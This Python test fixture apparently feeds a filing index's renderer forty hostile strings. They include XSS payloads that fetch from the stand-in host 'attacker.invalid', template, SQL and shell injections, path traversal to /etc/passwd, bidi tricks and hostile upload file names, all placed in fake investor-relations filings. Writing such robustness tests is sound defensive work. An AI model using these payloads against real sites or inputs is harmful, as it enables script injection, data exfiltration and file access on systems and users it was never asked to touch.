"""Forty texts that attack whoever shows them, and filings made of them.

Each stands in every field of a filing's head, in its question and in its answer. What would run
sets ``window.hit`` or fetches from ``HOST``; a page that shows them must do neither.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

from eval.robustness.hostile import docx, paragraph
from index.files import sha256_of
from index.intake.parse import parse
from index.records import ParsedFiling

HOST = "attacker.invalid"
_RUN = f"window.hit=1;fetch('//{HOST}/')"

ATTACKS = (
    # Elements and event handlers.
    f"<script>{_RUN}</script>",
    f"</p></blockquote></section><script>{_RUN}</script>",
    f'<img src=x onerror="{_RUN}">',
    f"<img src=//{HOST}/x.png>",
    f'"><img src=x onerror={_RUN}>',
    f"' onmouseover='{_RUN}' x='",
    f'" autofocus onfocus="{_RUN}" x="',
    f'<svg onload="{_RUN}"><circle r=9 /></svg>',
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text y=20>x</text></a></svg>',
    f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    f'<math><mi xlink:href="javascript:{_RUN}">x</mi></math>',
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<object data="//{HOST}/x"></object><embed src="//{HOST}/y">',
    f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    f'<form action="javascript:{_RUN}"><input type=submit autofocus></form>',
    f'<video><source onerror="{_RUN}"></video><audio src=x onerror="{_RUN}">',
    f'<style>@import "//{HOST}/x.css";body{{background:url(//{HOST}/y)}}</style>',
    f'<link rel=stylesheet href="//{HOST}/x.css"><base href="//{HOST}/">',
    f'<meta http-equiv=refresh content="0;url=//{HOST}/">',
    f"<template><script>{_RUN}</script></template><noscript><img src=x onerror='{_RUN}'>",
    f"<mark class=best onclick='{_RUN}'>x</mark><button data-link='?q=x'>x</button>",
    # Addresses and Markdown.
    f"javascript:{_RUN}",
    f"[x](javascript:{_RUN}) ![x](//{HOST}/x.png)",
    f"<javascript:{_RUN}> <data:text/html,<script>{_RUN}</script>>",
    f"data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4= //{HOST}/ http://{HOST}/",
    f'<a href="javascript:{_RUN}" target=_blank>官方答复</a>',
    # Templates, and escapes that are undone once too often.
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"${{{_RUN}}} #{{7*7}} <%= 7*7 %> {{@html '<script>{_RUN}</script>'}}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &amp;lt; &#60;img src=x onerror={_RUN}&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e \\x3cimg src=x\\x3e %3Cscript%3E",
    f"--><!--<script>{_RUN}</script>--><![CDATA[<script>{_RUN}</script>]]>",
    # Names of files, commands, queries.
    "../../../../etc/passwd ..\\..\\windows\\win.ini file:///etc/passwd %2e%2e%2f",
    "'; DROP TABLE pairs; -- \" OR 1=1; $(touch hit) `touch hit` | touch hit",
    # Directions, invisible and odd characters.
    "\u202egnp.exe\u202dabc \u2067txet\u2066 \u200f\u200e 甲",
    "\u202e" * 40 + "卖出",
    "\u200b\u2060\ufeff\u00ad甲\u0301\u0301\u0301" + "\u0489" * 60,
    "\x1b[31m\x07\x08\x7f\x9b31m 甲",
    "龘" * 3000 + "<b>",
)

# File names of uploads, none of which may leave the folder that it is put in.
NAMES = (
    "../../../../tmp/hit.txt",
    "..\\..\\hit.txt",
    "/etc/hit.txt",
    "C:\\hit.txt",
    "....//....//hit.txt",
    "%2e%2e%2fhit.txt",
    "hit.txt\0.pdf",
    "<img src=x onerror=window.hit=1>.txt",
    '"><script>window.hit=1<∕script>.txt',
    "\u202etxt.tih.txt",
    "{{7*7}}${7*7}.txt",
    ".hit.txt",
    "字" * 80 + ".txt",
)


def write_filings(folder: Path) -> Iterator[Path]:
    """A filing for each attack, by turns as text, HTML and DOCX, from whose text it is read."""
    for number, attack in enumerate(ATTACKS):
        attack = attack.replace("\n", " ")
        lines = [
            "投资者关系活动记录表",
            f"证券代码：{code_of(number)} 证券简称：甲{number}",
            "时间：2024年5月8日",
            f"问题1：产能{attack}如何？",
            f"回答：产能{attack}已满。扩建{attack}在建，预计明年投产。",
        ]
        suffix = (".txt", ".html", ".docx")[number % 3]
        path = folder / f"attack-{number:02}{suffix}"
        escaped = [html.escape(_allowed(line)) for line in lines]
        if suffix == ".docx":
            path.write_bytes(docx("".join(map(paragraph, escaped))))
        elif suffix == ".html":
            body = "".join(f"<p>{line}</p>" for line in escaped)
            path.write_text(f"<!DOCTYPE html><meta charset=utf-8>{body}", "utf-8")
        else:
            path.write_text("\n".join(lines), "utf-8")
        yield path


def read_attacked(path: Path) -> ParsedFiling:
    """One of them, with its attack in every field of the head, whatever a reader takes for one."""
    parsed = parse(path)
    number = int(path.stem.rpartition("-")[2])
    attack = ATTACKS[number]
    head = replace(
        parsed.filing,
        sha256=sha256_of(path),
        title=attack,
        company=f"{attack}{number}",
        short_name=f"{attack}{number}",
        code=code_of(number),
        exchange=None if number % 2 else "SSE",
        activity_types=(attack, f"{attack}{number}"),
        activity_date=f"2024-05-{number % 28 + 1:02}",
        place=attack,
        participants=attack,
        hosts=attack,
    )
    return replace(parsed, filing=head)


def code_of(number: int) -> str:
    """The code of the company whose filing attacks so."""
    return str(309000 + number)


def _allowed(line: str) -> str:
    """Without what no XML can hold."""
    return "".join(ch for ch in line if ch >= " " and ch != "\x7f")
